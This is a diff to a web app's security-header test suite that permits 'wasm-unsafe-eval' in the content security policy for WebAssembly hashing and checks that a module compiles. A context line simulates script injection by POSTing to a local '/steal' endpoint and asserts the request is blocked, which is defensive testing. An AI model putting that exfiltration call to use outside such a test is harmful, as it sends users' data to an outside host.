@@ -58,9 +58,9 @@ describe("the web app's security headers (security round 2, item 8)", () => {
         const { headers } = await fetch(`${configured.url}${file}`);
         const csp = headers.get("content-security-policy") ?? "";
         expect(csp.split("; ")).toEqual(
-          expect.arrayContaining(["default-src 'none'", "script-src 'self'", "style-src 'self'", "frame-ancestors 'none'", "object-src 'none'", "base-uri 'none'", CONNECT_SRC]),
+          expect.arrayContaining(["default-src 'none'", "script-src 'self' 'wasm-unsafe-eval'", "style-src 'self'", "frame-ancestors 'none'", "object-src 'none'", "base-uri 'none'", CONNECT_SRC]),
         );
-        expect(csp).not.toMatch(/unsafe|\*/);
+        expect(csp.replace("'wasm-unsafe-eval'", "")).not.toMatch(/unsafe|\*/);
         expect(headers.get("x-frame-options")).toBe("DENY");
         expect(headers.get("x-content-type-options")).toBe("nosniff");
         expect(headers.get("referrer-policy")).toBe("no-referrer");
@@ -90,6 +90,9 @@ describe("the web app's security headers (security round 2, item 8)", () => {
       await page.waitForFunction(() => (document.querySelector("#app")?.childElementCount ?? 0) > 0);
       await page.waitForLoadState("networkidle");
       expect(await page.evaluate(() => (globalThis as unknown as { violations: string[] }).violations)).toEqual([]);
+      // The sdk hashes documents with WebAssembly (hash-wasm): compiling a module is allowed.
+      const wasm = await page.evaluate(() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => "compiled", (error: Error) => error.message));
+      expect(wasm).toBe("compiled");
       // What injected script would do with stolen data: send it elsewhere.
       const exfiltrated = await page.evaluate(() => fetch("http://127.0.0.1:9/steal", { method: "POST", body: "x" }).then(() => "sent", () => "blocked"));
       expect(exfiltrated).toBe("blocked");
